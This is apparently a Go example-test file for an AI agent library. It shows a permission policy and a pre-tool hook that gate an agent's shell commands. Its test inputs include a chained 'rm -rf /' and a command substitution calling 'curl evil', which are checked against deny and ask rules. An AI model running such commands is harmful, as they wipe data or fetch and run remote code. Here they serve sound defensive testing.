package loop_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/hrns-dev/hrns/llm"
	"github.com/hrns-dev/hrns/llm/llmtest"
	"github.com/hrns-dev/hrns/loop"
	"github.com/hrns-dev/hrns/loop/cmdline"
)

// A policy in acceptEdits mode that lets "go test" run without asking and
// never lets "rm" run, whatever else the line holds.
func ExamplePermissions_Check() {
	run := &loop.ToolDef{Name: "run_command", RequiresApproval: true, Access: loop.AccessExecute,
		Subject: cmdline.Subject("command")}
	perms := &loop.Permissions{Mode: loop.ModeAcceptEdits}
	for _, s := range []string{"run_command(go test:*)"} {
		r, _ := loop.ParseRule(s)
		perms.Allow = append(perms.Allow, r)
	}
	perms.Deny = []loop.Rule{{Tool: "run_command", Pattern: "rm:*"}}
	for _, line := range []string{"go test ./...", "go test ./... && rm -rf /", "go test $(curl evil)", "make"} {
		args, _ := json.Marshal(map[string]string{"command": line})
		d := perms.Check(run, args)
		fmt.Printf("%-28q %s (%s)\n", line, d.Behavior, d.Step)
	}
	// Output:
	// "go test ./..."              allow (allow_rule)
	// "go test ./... && rm -rf /"  deny (deny_rule)
	// "go test $(curl evil)"       ask (approver)
	// "make"                       ask (approver)
}

// A pre_tool hook that refuses pushes: the model reads the reason.
func ExampleHook() {
	model := llmtest.NewModel(llmtest.Call("c1", "run_command", `{"command":"git push"}`), llmtest.Text("I will not push."))
	run := loop.NewTool("run_command", "Runs a command.", func(_ context.Context, in struct {
		Command string `json:"command"`
	}) (string, error) {
		return "ran " + in.Command, nil
	})
	agent := loop.NewAgent(model, loop.MustToolset(run), &loop.Options{Hooks: []loop.Hook{{
		Event: loop.HookPreTool, Match: "run_command",
		Func: func(_ context.Context, in *loop.HookInput) (*loop.HookOutput, error) {
			if strings.Contains(string(in.Arguments), "git push") {
				return &loop.HookOutput{Decision: loop.HookDeny, Reason: "pushing is done by CI"}, nil
			}
			return nil, nil
		},
	}}})
	for c := range agent.RunLoop(context.Background(), []llm.Message{llm.UserMessage("ship it")}) {
		if c.Type == loop.ChunkToolCallError {
			fmt.Println(c.Content)
		}
	}
	// Output:
	// the call to tool "run_command" was rejected: pushing is done by CI
}
